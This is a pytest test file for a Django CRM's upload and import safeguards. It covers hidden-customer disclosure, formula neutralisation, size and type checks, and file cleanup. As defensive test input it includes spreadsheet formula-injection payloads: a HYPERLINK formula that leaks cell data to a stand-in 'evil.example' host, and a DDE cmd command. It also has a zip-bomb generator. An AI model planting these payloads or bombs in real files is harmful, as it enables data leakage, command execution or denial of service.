"""Uploads that must not hurt: hidden customers stay hidden in the import's answers, formulas
in the rejected-rows file stay text, and files that are too large, not what they claim,
compression bombs or hold giant values are refused clearly (never a 500, never a worker
parsing inside the request) with the stored file removed; the nightly sweep removes what is
left behind."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import secrets
import time
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone

from guanxi.core.tasks import queue
from guanxi.core.tests.api_client import as_
from guanxi.integrations.models import ImportJob
from guanxi.integrations.services import imports
from guanxi.integrations.tests.imports_fixtures import (  # noqa: F401
    import_file,
    rejected_rows,
    stored_uploads,
    upload,
    var_dir,
    write_csv,
    write_xlsx,
)

pytestmark = pytest.mark.usefixtures("var_dir")

HIDDEN = "北京恒达新能源有限公司"
REG_ID = "91310000MA1FL8TQ7J"


def _post_api(user, name: str, content: bytes, kind: str = "customers"):
    return as_(user).client.post("/api/imports", data={
        "kind": kind, "policy": "skip", "file": _named(name, content)})


def _post_page(client, name: str, content: bytes):
    return client.post(reverse("integrations:imports"), {
        "kind": "customers", "policy": "skip", "file": _named(name, content)})


def _named(name: str, content: bytes) -> io.BytesIO:
    f = io.BytesIO(content)
    f.name = name
    return f


# --- what an import tells about customers the importer may not see ---------------------------

@pytest.mark.parametrize("policy", ["skip", "update"])
def test_a_hidden_customer_is_named_by_its_owner_only(org, make_account, tmp_path, policy):
    make_account(by=org.other_rep, name=HIDDEN, phone="13900000001", registration_id=REG_ID)
    path = write_csv(tmp_path / "p.csv", [["客户名称", "电话", "统一社会信用代码"],
                                          ["恒达", "13900000001", ""],
                                          ["某公司", "", REG_ID]])
    job = upload(org.rep, "customers", path, policy=policy)
    preview = as_(org.rep).get(f"imports/{job.pk}/preview").json()
    assert [row["outcome"] for row in preview] == (["skipped", "skipped"] if policy == "skip"
                                                   else ["rejected", "rejected"])
    for row in preview:
        assert HIDDEN not in row["error"] and "黄伟" in row["error"]
    duplicates = as_(org.rep).get("customers/duplicates", phone="13900000001").json()
    assert duplicates[0]["name"] is None  # the import says no more than this check
    if policy == "update":
        job.refresh_from_db()
        imports.confirm(org.rep, job, job.version, enqueue=False)
        job = imports.run(job.pk)
        reasons = [r[-1] for r in rejected_rows(job)[1:]]
        assert len(reasons) == 2 and all("黄伟" in r and HIDDEN not in r for r in reasons)


def test_a_customer_the_importer_sees_is_still_named(org, make_account, tmp_path):
    make_account(by=org.rep, name="上海可见机电有限公司", phone="13900000002")
    job = import_file(org.rep, "customers", write_csv(tmp_path / "v.csv", [
        ["客户名称", "电话"], ["可见", "13900000002"]]))
    assert job.skipped == 1
    assert ImportJob.objects.get(pk=job.pk).rejected == 0
    preview_job = upload(org.rep, "customers", write_csv(tmp_path / "w.csv", [
        ["客户名称", "电话"], ["可见", "13900000002"]]))
    [item] = imports.preview(org.rep, preview_job)
    assert "上海可见机电有限公司" in item.error


# --- formulas in the rejected-rows file -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0",
            "+1+2", "-3+4", "@SUM(1,2)", "\t=1", "\r=1"]


def _assert_inert(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_rejected_csv_neutralises_formulas(org, tmp_path):
    rows = [["客户名称", "电话", "=1+2"]] + [["", f, f] for f in FORMULAS]
    job = import_file(org.rep, "customers", write_csv(tmp_path / "f.csv", rows),
                      mapping={"0": "name", "1": "description"})
    assert job.rejected == len(FORMULAS)
    text = as_(org.admin).get(f"imports/{job.pk}/rejected").getvalue().decode()
    downloaded = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert downloaded[0][2] == "'=1+2"
    _assert_inert(downloaded)


def test_formula_cells_of_an_xlsx_come_back_inert(org, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [["客户名称", "备注"]] + [[None, f] for f in
                                                                     FORMULAS[:5]])
    job = import_file(org.rep, "customers", path)
    assert job.rejected == 5
    cells = [c for row in rejected_rows(job) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1,2)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


# --- files that are refused at the upload ---------------------------------------------------

def _zip_bomb(size_mb: int = 120) -> bytes:
    """An XLSX-shaped zip of a few hundred KB whose sheet inflates to ``size_mb`` MB."""
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000  # ~1 MB
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b"<worksheet><sheetData>")
            for _n in range(size_mb):
                sheet.write(row)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_anything_inflates_it(org, client, settings):
    bomb = _zip_bomb()
    assert len(bomb) < 1024 * 1024
    started = time.perf_counter()
    response = _post_api(org.rep, "bomb.xlsx", bomb)
    assert time.perf_counter() - started < 2
    assert response.status_code == 400
    assert response.json()["field"] == "file" and response.json()["code"] == "file_bomb"
    client.force_login(org.rep)
    page = _post_page(client, "bomb.xlsx", bomb)
    assert page.status_code == 400
    assert "compression bomb" in page.context["form"].errors["file"][0]
    assert not ImportJob.objects.exists() and stored_uploads(settings) == []


@pytest.mark.parametrize(("name", "content", "code"), [
    ("fake.xlsx", b"Name,Phone\nA,1\n", "file_type"),
    ("fake.xlsx", b"PK\x03\x04 not really a zip", "file_type"),
    ("binary.csv", b"\x00\x01\x02\x89PNG" * 100, "encoding"),
    ("empty.csv", b"", "empty"),
])
def test_a_file_that_is_not_what_it_claims_is_a_400_at_the_field(org, client, settings, name,
                                                                 content, code):
    response = _post_api(org.rep, name, content)
    assert response.status_code == 400
    assert (response.json()["field"], response.json()["code"]) == ("file", code)
    client.force_login(org.rep)
    page = _post_page(client, name, content)
    assert page.status_code == 400 and page.context["form"].errors["file"]
    assert not ImportJob.objects.exists() and stored_uploads(settings) == []


def test_a_zip_without_the_workbook_parts_is_not_an_xlsx(org, settings):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "hi")
    response = _post_api(org.rep, "x.xlsx", out.getvalue())
    assert (response.status_code, response.json()["code"]) == (400, "file_type")
    assert stored_uploads(settings) == []


def test_an_oversize_upload_is_a_413_and_leaves_nothing(org, client, settings):
    settings.GUANXI_UPLOAD_MAX_MB = 1
    content = b"name,phone\n" + b"a,1\n" * 300_000  # 1.2 MB
    response = _post_api(org.rep, "big.csv", content)
    assert response.status_code == 413
    assert response.json()["field"] == "file" and "1 MB" in response.json()["detail"]
    client.force_login(org.rep)
    page = _post_page(client, "big.csv", content)
    assert page.status_code == 400 and "larger than 1 MB" in page.context["form"].errors[
        "file"][0]
    assert not ImportJob.objects.exists() and stored_uploads(settings) == []


def test_documents_follow_the_upload_limit_too(org, settings):
    from guanxi.core.errors import DomainError
    from guanxi.orders import documents

    settings.GUANXI_UPLOAD_MAX_MB = 1
    settings.GUANXI_DOCUMENT_MAX_MB = 25
    with pytest.raises(DomainError) as exc:
        documents.validate(_Sized("big.pdf", b"%PDF-1.7\n" + b"0" * (1024 * 1024 + 1)))
    assert (exc.value.status, exc.value.field) == (413, "file")


class _Sized(io.BytesIO):
    def __init__(self, name: str, data: bytes) -> None:
        super().__init__(data)
        self.name, self.size = name, len(data)

    def chunks(self):
        yield self.getvalue()


# --- files the worker cannot read -----------------------------------------------------------

def test_reading_happens_in_the_worker_and_the_api_reports_it(org, settings,
                                                              django_capture_on_commit_callbacks):
    content = "客户名称,电话\n甲公司,13800000001\n".encode()
    with django_capture_on_commit_callbacks() as queued:
        response = _post_api(org.rep, "a.csv", content)
    assert response.status_code == 201 and response.json()["status"] == "reading"
    assert response.json()["headers"] == [] and queued
    job_id = response.json()["id"]
    busy = as_(org.rep).put(f"imports/{job_id}/mapping", {"mapping": {"0": "name"},
                                                           "version": 1})
    assert (busy.status_code, busy.json()["code"]) == (409, "reading")
    before, queue.immediate = queue.immediate, True
    try:
        for callback in queued:  # the commit enqueues the reading; the worker runs it
            callback()
    finally:
        queue.immediate = before
    job = as_(org.rep).get(f"imports/{job_id}").json()
    assert (job["status"], job["headers"], job["total"]) == ("draft", ["客户名称", "电话"], 1)
    assert job["mapping"] == {"0": "name", "1": "phone"}


def test_a_giant_csv_value_fails_the_job_clearly_and_removes_the_file(org, client, settings):
    content = b"name,description\nA," + b"x" * (10 * 1024 * 1024 + 10) + b"\n"
    response = _post_api(org.rep, "giant.csv", content)
    assert response.status_code == 201  # stored and checked, not parsed, in the request
    job = imports.read(response.json()["id"])
    assert job.status == "failed" and "longer than 1 MB" in job.error
    assert stored_uploads(settings) == []
    api = as_(org.rep).get(f"imports/{job.pk}").json()
    assert api["status"] == "failed" and "longer than 1 MB" in api["error"]
    client.force_login(org.rep)
    page = client.get(reverse("integrations:import_detail", args=[job.pk])).content.decode()
    assert "longer than 1 MB" in page and "Resume after the last saved batch" not in page
    resume = as_(org.rep).post(f"imports/{job.pk}/resume")
    assert resume.status_code == 409


def test_too_many_rows_fail_the_job(org, settings, tmp_path):
    settings.GUANXI_IMPORT_MAX_ROWS = 3
    path = write_csv(tmp_path / "r.csv", [["客户名称"]] + [[f"客户{n}"] for n in range(4)])
    job = upload(org.rep, "customers", path)
    assert job.status == "failed" and "more than 3 rows" in job.error
    assert stored_uploads(settings) == []


def test_a_row_over_1_mb_fails_the_job(org, settings, tmp_path):
    # Each value is within the limit, the row is not (so a preview's few rows stay small).
    rows = [["客户名称", "备注"], ["甲", "短"], ["乙"] + [secrets.token_hex(200_000)
                                                        for _n in range(3)]]
    path = write_csv(tmp_path / "w.csv", rows)
    job = upload(org.rep, "customers", path)
    assert job.status == "failed" and "Line 3 holds more than 1 MB" in job.error
    assert stored_uploads(settings) == []


def test_a_truncated_workbook_fails_the_job_not_the_worker(org, settings, tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", [["客户名称"], ["甲"]])
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start:start + info.compress_size] = b"\xff" * info.compress_size  # garbage
    path.write_bytes(bytes(data))
    job = upload(org.rep, "customers", path)
    assert job.status == "failed" and "not a readable XLSX" in job.error
    assert stored_uploads(settings) == []


# --- the nightly sweep ------------------------------------------------------------------------

def test_the_sweep_removes_failed_abandoned_and_orphan_files(org, settings, tmp_path):
    rows = [["客户名称"], ["甲"]]
    abandoned = upload(org.rep, "customers", write_csv(tmp_path / "a.csv", rows))
    fresh = upload(org.rep, "customers", write_csv(tmp_path / "b.csv", rows))
    failed = upload(org.rep, "customers", write_csv(tmp_path / "c.csv", rows))
    done = import_file(org.rep, "customers", write_csv(tmp_path / "d.csv", [["客户名称"],
                                                                            ["乙"]]))
    two_days_ago = timezone.now() - dt.timedelta(days=2)
    ImportJob.objects.filter(pk=abandoned.pk).update(updated_at=two_days_ago)
    ImportJob.objects.filter(pk=failed.pk).update(status="failed", finished_at=two_days_ago)
    orphan = default_storage.save("imports/" + "0" * 32 + ".csv", io.BytesIO(b"a\n"))
    young_orphan = default_storage.save("imports/" + "1" * 32 + ".csv", io.BytesIO(b"a\n"))
    old = time.time() - 2 * 86400
    os.utime(default_storage.path(orphan), (old, old))

    assert imports.sweep_files() == 3
    kept = set(stored_uploads(settings))
    assert kept == {fresh.file_name, done.file_name, young_orphan.split("/")[-1]}
    abandoned.refresh_from_db()
    assert abandoned.status == "failed" and "removed" in abandoned.error
    assert imports.sweep_files() == 0
